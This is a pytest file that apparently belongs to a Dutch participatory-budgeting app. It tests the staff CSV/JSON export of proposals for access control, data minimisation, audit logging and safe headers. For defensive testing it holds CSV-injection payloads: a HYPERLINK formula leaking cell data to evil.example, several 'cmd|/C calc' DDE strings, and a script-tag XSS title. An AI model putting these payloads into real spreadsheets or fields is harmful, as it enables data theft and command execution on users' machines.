"""The staff export of a round's proposals (CSV and JSON), on SQLite and PostgreSQL.

Who may download it, what is (and is not) in it, that it is byte-for-byte deterministic, that the
CSV reads back with the csv module, and that the XSS corpus of ``test_xss.py`` plus spreadsheet
formulas in every text field come out as inert data: exact strings in JSON, formula-neutralised
cells in CSV, and headers that never let a browser render the file.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from burgerbegroting.accounts.roles import Role
from burgerbegroting.accounts.service import normalise_display_name
from burgerbegroting.i18n import to_local
from burgerbegroting.proposals import export
from burgerbegroting.rounds.models import Phase
from burgerbegroting.settings import Settings
from tests.accounts.factories import bearer, make_user
from tests.proposals.factories import (
    People,
    RoundIds,
    create_proposal,
    make_people,
    make_round,
    scalar,
)
from tests.proposals.test_xss import CORPUS

Client = TestClient[Litestar]
BOM = b"\xef\xbb\xbf"
# Classic spreadsheet payloads (OWASP "CSV Injection"), one per formula character we neutralise.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=SUM(1;2)*10",
)
PAYLOADS = CORPUS + FORMULAS
TEXT_FIELDS = {
    # CSV header -> JSON field
    "Titel": "title",
    "Samenvatting": "summary",
    "Beschrijving": "description",
    "Beoogd maatschappelijk effect": "societal_effect",
    "Doelgroep": "target_group",
    "Thema": "theme",
    "Wijk": "district",
    "Locatie": "location",
    "Organisatie (uitdaagrecht)": "organisation_name",
    "Haalbaarheid (intern)": "feasibility_notes",
    "Openbare toelichting": "public_reasoning",
}


@pytest.fixture
def people(settings: Settings) -> People:
    return make_people(settings)


@pytest.fixture
def ids(settings: Settings) -> RoundIds:
    return make_round(settings)


def _url(round_id: int, fmt: str | None = None) -> str:
    base = f"/api/v1/rounds/{round_id}/proposals/export"
    return base if fmt is None else f"{base}?format={fmt}"


def _staff(settings: Settings, email: str, *roles: Role) -> dict[str, str]:
    return bearer(settings, make_user(settings, email, roles=roles), staff=True)


def parse_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(BOM)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, *data = rows
    assert header == [c.header for c in export.COLUMNS]
    assert all(len(row) == len(header) for row in data)
    return [dict(zip(header, row, strict=True)) for row in data]


def _review(client: Client, pid: int, headers: dict[str, str], **body: Any) -> None:
    response = client.post(f"/api/v1/proposals/{pid}/review", json=body, headers=headers)
    assert response.status_code == 200, response.text


# --- who may download it ------------------------------------------------------------------------


def test_only_moderators_admins_and_auditors_may_export(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    create_proposal(client, settings, ids, people.headers(settings, "resident"))
    url = _url(ids.round_id)
    assert client.get(url).status_code == 401
    assert client.get(url, headers=people.headers(settings, "resident")).status_code == 403
    council = _staff(settings, "raad@gemeente.nl", Role.COUNCIL)
    assert client.get(url, headers=council).status_code == 403
    auditor = _staff(settings, "controle@gemeente.nl", Role.AUDITOR)
    for headers in (
        people.headers(settings, "moderator"),
        people.headers(settings, "admin"),
        auditor,
    ):
        for fmt in (None, "csv", "json"):
            assert client.get(_url(ids.round_id, fmt), headers=headers).status_code == 200
    # Refused requests leave no trace in the log; the nine downloads above each left one.
    assert scalar(settings, "SELECT count(*) FROM audit_log WHERE action = 'proposal.export'") == 9


def test_session_cookie_authenticates_the_download_link(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    # The link on /toetsing is a plain GET: the browser sends the session cookie, not a bearer.
    token = people.headers(settings, "moderator")["Authorization"].removeprefix("Bearer ")
    client.cookies.set("bb_session", token)
    # A browser following the link on our own page says so (requires_same_origin_or_bearer).
    response = client.get(_url(ids.round_id), headers={"Sec-Fetch-Site": "same-origin"})
    assert response.status_code == 200
    assert response.content.startswith(BOM)


def test_bad_format_unknown_round_and_draft_round(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    mod = people.headers(settings, "moderator")
    for bad in ("xml", "CSV;", "", "html"):
        response = client.get(f"{_url(ids.round_id)}?format={bad}", headers=mod)
        if bad == "":  # an empty value means the default, like a missing one
            assert response.status_code == 200
            continue
        assert response.status_code == 400, bad
        assert response.headers["content-type"] == "application/problem+json"
        problem = response.json()
        assert problem["detail"] == "Onbekend formaat voor de download: kies csv of json."
        assert problem["errors"] == {"format": "Kies csv of json."}
    assert client.get(_url(987654321), headers=mod).status_code == 404
    draft = make_round(settings, phase=Phase.DRAFT, title="In voorbereiding")
    # As in the gallery: a round in preparation exists only for admins.
    assert client.get(_url(draft.round_id), headers=mod).status_code == 404
    admin = client.get(_url(draft.round_id, "json"), headers=people.headers(settings, "admin"))
    assert admin.status_code == 200
    assert admin.json()["items"] == []
    # Only the two successful downloads (empty format, admin) are logged.
    assert scalar(settings, "SELECT count(*) FROM audit_log WHERE action = 'proposal.export'") == 2


# --- what is in it ------------------------------------------------------------------------------


def test_drafts_and_withdrawn_proposals_stay_out(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    resident = people.headers(settings, "resident")
    submitted = create_proposal(client, settings, ids, resident, title="Ingediend voorstel")
    create_proposal(client, settings, ids, resident, submit=False, title="Concept voorstel")
    withdrawn = create_proposal(client, settings, ids, resident, title="Ingetrokken voorstel")
    assert (
        client.post(f"/api/v1/proposals/{withdrawn['id']}/withdraw", headers=resident).status_code
        == 200
    )
    # A moderator who is also a resident: their own draft is still nobody else's business, and
    # not part of a file that is handed on.
    both = bearer(
        settings,
        make_user(settings, "beide@gemeente.nl", roles=(Role.RESIDENT, Role.MODERATOR)),
        staff=True,
    )
    create_proposal(client, settings, ids, both, submit=False, title="Eigen concept toetser")
    for headers in (people.headers(settings, "moderator"), both):
        body = client.get(_url(ids.round_id, "json"), headers=headers).json()
        assert [i["id"] for i in body["items"]] == [submitted["id"]]
        rows = parse_csv(client.get(_url(ids.round_id), headers=headers).content)
        assert [r["Id"] for r in rows] == [str(submitted["id"])]


def test_every_column_and_no_more_personal_data_than_the_page_shows(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    resident = people.headers(settings, "resident")
    mod = people.headers(settings, "moderator")
    first = create_proposal(
        client, settings, ids, resident, organisation_name="Stichting Buurtkracht"
    )
    second = create_proposal(
        client,
        settings,
        ids,
        people.headers(settings, "other"),
        title="Stadsbrede maaltijden",
        district_id=None,
        location=None,
        estimated_cost_cents=99_999,
    )
    third = create_proposal(client, settings, ids, resident, title="Dubbel voorstel")
    invite = client.post(
        f"/api/v1/proposals/{first['id']}/coauthors",
        json={"email": "bram@example.nl"},
        headers=resident,
    )
    assert invite.status_code == 201
    accepted = client.post(
        "/api/v1/invitations/accept",
        json={"invitation_id": invite.json()["id"], "organisation_name": "Stichting Buurtwerk"},
        headers=people.headers(settings, "other"),
    )
    assert accepted.status_code == 200, accepted.text
    # Bram is a co-author now, and authors cannot support their own proposal: Carla supports.
    carla = bearer(settings, make_user(settings, "carla@example.nl", display_name="Carla"))
    support = client.put(f"/api/v1/proposals/{first['id']}/supports", headers=carla)
    assert support.status_code == 200
    _review(
        client,
        first["id"],
        mod,
        decision="accepted",
        municipal_cost_cents=1_000_050,
        feasibility_notes="Past binnen het welzijnsbudget.",
        public_reasoning="Goed plan.",
    )
    merge = client.post(
        f"/api/v1/proposals/{third['id']}/merge",
        json={"into_id": first["id"], "reason": "Dubbel"},
        headers=mod,
    )
    assert merge.status_code == 200

    by_id = {r["Id"]: r for r in parse_csv(client.get(_url(ids.round_id), headers=mod).content)}
    assert list(by_id) == [str(first["id"]), str(second["id"]), str(third["id"])]
    row = by_id[str(first["id"])]
    stored = client.get(f"/api/v1/proposals/{first['id']}", headers=mod).json()
    assert row["Status (code)"] == "accepted"
    assert row["Status"] == "Goedgekeurd"
    # Author first, then co-authors with the organisation they joined for, as on the page.
    assert row["Indieners"] == "Anna de Vries, Bram Jansen (Stichting Buurtwerk)"
    assert row["Thema"] == "Eenzaamheid"
    assert row["Wijk"] == "Noord"
    assert row["Organisatie (uitdaagrecht)"] == "Stichting Buurtkracht"
    assert row["Kosten inwoner (cent)"] == "1250000"
    assert row["Kosten inwoner (euro)"] == "12500,00"
    assert row["Kosten gemeente (cent)"] == "1000050"
    assert row["Kosten gemeente (euro)"] == "10000,50"
    assert row["Aantal steunbetuigingen"] == "1"
    assert row["Haalbaarheid (intern)"] == "Past binnen het welzijnsbudget."
    assert row["Openbare toelichting"] == "Goed plan."
    assert row["Samengevoegd met (id)"] == ""
    submitted_at = datetime.fromisoformat(stored["submitted_at"])
    assert row["Ingediend (UTC, ISO 8601)"] == submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row["Ingediend (Europe/Amsterdam)"] == to_local(submitted_at).strftime(
        "%Y-%m-%d %H:%M:%S"
    )
    reviewed_at = datetime.fromisoformat(stored["reviewed_at"])
    assert row["Besluit (UTC, ISO 8601)"] == reviewed_at.strftime("%Y-%m-%dT%H:%M:%SZ")
    city = by_id[str(second["id"])]
    assert city["Wijk"] == "Stedelijk"
    assert city["Locatie"] == ""
    assert city["Kosten inwoner (euro)"] == "999,99"
    assert city["Kosten gemeente (cent)"] == ""
    assert city["Besluit (UTC, ISO 8601)"] == ""
    merged = by_id[str(third["id"])]
    assert merged["Status (code)"] == "merged"
    assert merged["Samengevoegd met (id)"] == str(first["id"])
    # The supports moved to the target; nobody's identity moves with them.
    assert by_id[str(first["id"])]["Aantal steunbetuigingen"] == "1"

    doc = client.get(_url(ids.round_id, "json"), headers=mod).json()
    item = doc["items"][0]
    assert item["authors"] == ["Anna de Vries", "Bram Jansen (Stichting Buurtwerk)"]
    assert item["estimated_cost_cents"] == 1_250_000
    assert item["estimated_cost_euro"] == "12500.00"
    assert item["municipal_cost_euro"] == "10000.50"
    assert item["right_to_challenge"] is True
    assert item["submitted_at"] == stored["submitted_at"]
    assert doc["items"][1]["district"] is None
    assert doc["items"][1]["city_wide"] is True
    # Data minimisation: names only, never e-mail addresses, user ids or supporters.
    for body in (client.get(_url(ids.round_id), headers=mod).content, json.dumps(doc).encode()):
        text = body.decode("utf-8-sig")
        for secret in ("@example.nl", "@gemeente.nl", "user_id", "Toetser Tim"):
            assert secret not in text


def test_feasibility_notes_only_in_a_moderators_export(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    pid = create_proposal(client, settings, ids, people.headers(settings, "resident"))["id"]
    _review(
        client,
        pid,
        people.headers(settings, "moderator"),
        decision="in_review",
        feasibility_notes="Intern: wethouder wil dit niet.",
    )
    auditor = _staff(settings, "controle@gemeente.nl", Role.AUDITOR)
    for headers, shown in (
        (people.headers(settings, "moderator"), True),
        (people.headers(settings, "admin"), False),
        (auditor, False),
    ):
        doc = client.get(_url(ids.round_id, "json"), headers=headers).json()
        assert doc["includes_feasibility_notes"] is shown
        assert doc["items"][0]["feasibility_notes"] == (
            "Intern: wethouder wil dit niet." if shown else None
        )
        row = parse_csv(client.get(_url(ids.round_id), headers=headers).content)[0]
        assert row["Haalbaarheid (intern)"] == ("Intern: wethouder wil dit niet." if shown else "")


def test_same_data_gives_the_same_bytes(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    for i in range(3):
        create_proposal(
            client, settings, ids, people.headers(settings, "resident"), title=f"Voorstel {i} ë€"
        )
    mod = people.headers(settings, "moderator")
    for fmt in ("csv", "json"):
        first = client.get(_url(ids.round_id, fmt), headers=mod).content
        again = client.get(_url(ids.round_id, fmt), headers=mod).content
        # The file does not follow the visitor's language either: it is a data contract.
        english = client.get(
            _url(ids.round_id, fmt), headers={**mod, "Accept-Language": "en", "Cookie": "taal=en"}
        ).content
        assert first == again == english
        if fmt == "csv":  # csv is the default
            assert client.get(_url(ids.round_id), headers=mod).content == first


def test_response_headers_never_let_a_browser_render_it(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    mod = people.headers(settings, "moderator")
    csv_response = client.get(_url(ids.round_id), headers=mod)
    assert csv_response.headers["content-type"] == "text/csv; charset=utf-8"
    json_response = client.get(_url(ids.round_id, "json"), headers=mod)
    assert json_response.headers["content-type"] == "application/json"
    for response, ext in ((csv_response, "csv"), (json_response, "json")):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="voorstellen-ronde-{ids.round_id}.{ext}"'
        )
        assert "script-src 'self'" in response.headers["content-security-policy"]


def test_every_export_is_in_the_audit_log(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    create_proposal(client, settings, ids, people.headers(settings, "resident"))
    moderator = client.get(
        _url(ids.round_id, "json"), headers=people.headers(settings, "moderator")
    )
    assert moderator.status_code == 200
    admin = people.headers(settings, "admin")
    assert client.get(_url(ids.round_id), headers=admin).status_code == 200
    log = client.get(
        f"/api/v1/audit-log/?subject_type=round&subject_id={ids.round_id}", headers=admin
    ).json()
    exports = [e for e in log["items"] if e["action"] == "proposal.export"]
    assert [(e["actor_id"], e["actor_name"], e["details"]) for e in exports] == [
        (
            people.admin,
            "Beheerder Bea",
            {"format": "csv", "proposals": 1, "feasibility_notes": False},
        ),
        (
            people.moderator,
            "Toetser Tim",
            {"format": "json", "proposals": 1, "feasibility_notes": True},
        ),
    ]


def test_json_schema_is_documented_in_openapi(client: Client) -> None:
    schema = client.get("/schema/openapi.json").json()
    operation = schema["paths"]["/api/v1/rounds/{round_id}/proposals/export"]["get"]
    content = operation["responses"]["200"]["content"]["application/json"]["schema"]
    assert content["$ref"].endswith("/ProposalExportOut")
    item = schema["components"]["schemas"]["ProposalExportItem"]["properties"]
    assert {"authors", "support_count", "municipal_cost_cents", "submitted_at"} <= set(item)
    assert "email" not in json.dumps(schema["components"]["schemas"]["ProposalExportItem"])


# --- XSS and formula corpus ---------------------------------------------------------------------


def test_neutralise_prefixes_only_formula_starts() -> None:
    for text in ("=1+1", "+31 6", "-5 graden", "@home", "\tx", "\rx"):
        assert export.neutralise(text) == "'" + text
    for text in ("", "Koffie", " =1", "'=1", "1=1", "<script>", "€ 5"):
        assert export.neutralise(text) == text


def test_xss_and_formula_corpus_in_every_text_field(
    client: Client, settings: Settings, people: People
) -> None:
    assert all(len(p) <= 100 for p in PAYLOADS)  # fits every column, so nothing is cut
    ids = make_round(settings, themes=PAYLOADS, districts=PAYLOADS)
    mod = people.headers(settings, "moderator")
    created: dict[int, str] = {}
    for i, payload in enumerate(PAYLOADS):
        author = make_user(settings, f"auteur{i}@example.nl", display_name=payload)
        pid = create_proposal(
            client,
            settings,
            ids,
            bearer(settings, author),
            title=payload,
            summary=payload,
            description=payload,
            societal_effect=payload,
            target_group=payload,
            location=payload,
            organisation_name=payload,
            theme_id=ids.themes[i],
            district_id=ids.districts[i],
        )["id"]
        _review(
            client,
            pid,
            mod,
            decision="changes_requested",
            public_reasoning=payload,
            feasibility_notes=payload,
        )
        created[pid] = payload

    json_response = client.get(_url(ids.round_id, "json"), headers=mod)
    csv_response = client.get(_url(ids.round_id, "csv"), headers=mod)
    for response in (json_response, csv_response):
        assert response.headers["content-disposition"].startswith("attachment;")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "html" not in response.headers["content-type"]

    # JSON: the exact strings back, nothing escaped, dropped or rendered.
    items = json_response.json()["items"]
    assert [item["id"] for item in items] == list(created)
    for item in items:
        payload = created[item["id"]]
        for field in TEXT_FIELDS.values():
            assert item[field] == payload, field
        assert item["authors"] == [normalise_display_name(payload)]

    # CSV: every text cell reads back exactly, but for the apostrophe before a formula.
    rows = parse_csv(csv_response.content)
    assert [int(r["Id"]) for r in rows] == list(created)
    neutralised = 0
    for row in rows:
        payload = created[int(row["Id"])]
        expected = dict.fromkeys(TEXT_FIELDS, payload)
        expected["Indieners"] = normalise_display_name(payload)
        for header, raw in expected.items():
            if raw.startswith(export.FORMULA_STARTS):
                assert row[header] == "'" + raw, header
                neutralised += 1
            else:
                assert row[header] == raw, header
        for column in export.COLUMNS:  # no text cell of the file can start a formula
            if column.text:
                assert not row[column.header].startswith(export.FORMULA_STARTS), column.header
    assert neutralised == len(FORMULAS) * len(expected)


# --- the links on the staff pages ---------------------------------------------------------------


def test_staff_pages_link_to_the_csv_download(
    client: Client, settings: Settings, people: People, ids: RoundIds
) -> None:
    hidden = make_round(settings, phase=Phase.DRAFT, title="<script>alert(1)</script> concept")
    link = f'href="/api/v1/rounds/{ids.round_id}/proposals/export?format=csv"'
    draft_link = f'href="/api/v1/rounds/{hidden.round_id}/proposals/export?format=csv"'
    queue = client.get("/toetsing", headers=people.headers(settings, "moderator"))
    assert queue.status_code == 200
    assert link in queue.text
    assert "Voorstellen downloaden (CSV)" in queue.text
    assert draft_link not in queue.text  # a moderator's export of a draft round would be a 404
    admin = client.get("/beheer/rondes", headers=people.headers(settings, "admin"))
    assert admin.status_code == 200
    assert link in admin.text
    assert draft_link in admin.text
    assert "<script>alert(1)</script>" not in admin.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; concept" in admin.text
